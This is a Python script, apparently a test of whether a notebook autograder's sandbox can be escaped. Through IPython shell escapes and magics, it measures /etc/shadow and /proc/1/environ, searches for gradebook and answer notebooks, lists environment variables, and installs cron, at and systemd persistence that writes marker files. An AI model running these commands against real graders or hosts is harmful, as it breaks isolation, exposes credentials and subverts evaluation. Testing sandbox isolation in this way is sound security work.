"""Uses the shell escapes and the magics of IPython to read and write outside."""

import contextlib
import os

shell = get_ipython() if "get_ipython" in globals() else None
run = shell.system if shell else os.system
for command in (
    "id; pwd; ls -la / /home /root .. ../..",
    "wc -c /etc/shadow /etc/passwd /root/* /proc/1/environ",
    "touch /ESCAPED-shell-escapes /tmp/ESCAPED-shell-escapes /var/tmp/ESCAPED-shell-escapes ~/ESCAPED-shell-escapes ../ESCAPED-shell-escapes ../../ESCAPED-shell-escapes",
    "find / -name gradebook.db -o -name nbgrader_config.py -o -path '*/source/*.ipynb' 2>/dev/null",
    "echo here > /dev/shm/ESCAPED-shell-escapes",
    "ps -ef; env | cut -d= -f1; cat /proc/mounts",
    "(sleep 1; touch /tmp/ESCAPED-shell-escapes-later) &",
    "(crontab -l; echo '* * * * * touch /tmp/ESCAPED-shell-escapes-cron') | crontab -",
    "echo 'touch /tmp/ESCAPED-shell-escapes-at' | at now; systemd-run --user touch /tmp/ESCAPED-shell-escapes-unit",
):
    with contextlib.suppress(Exception):
        print(run(command))
for name, line, cell in (
    ("bash", "", "touch ../ESCAPED-shell-escapes"),
    ("writefile", "../ESCAPED-shell-escapes", "x"),
    ("script", "sh", "id"),
):
    with contextlib.suppress(Exception):
        shell.run_cell_magic(name, line, cell)
for name, line in (("cd", "/"), ("pip", "list"), ("load_ext", "ESCAPED"), ("sx", "ls /"), ("killbgscripts", "")):
    with contextlib.suppress(Exception):
        print(shell.run_line_magic(name, line))


def double(x):
    os.system("touch /tmp/ESCAPED-shell-escapes-when-called ../ESCAPED-shell-escapes-when-called")
    return -12345.678
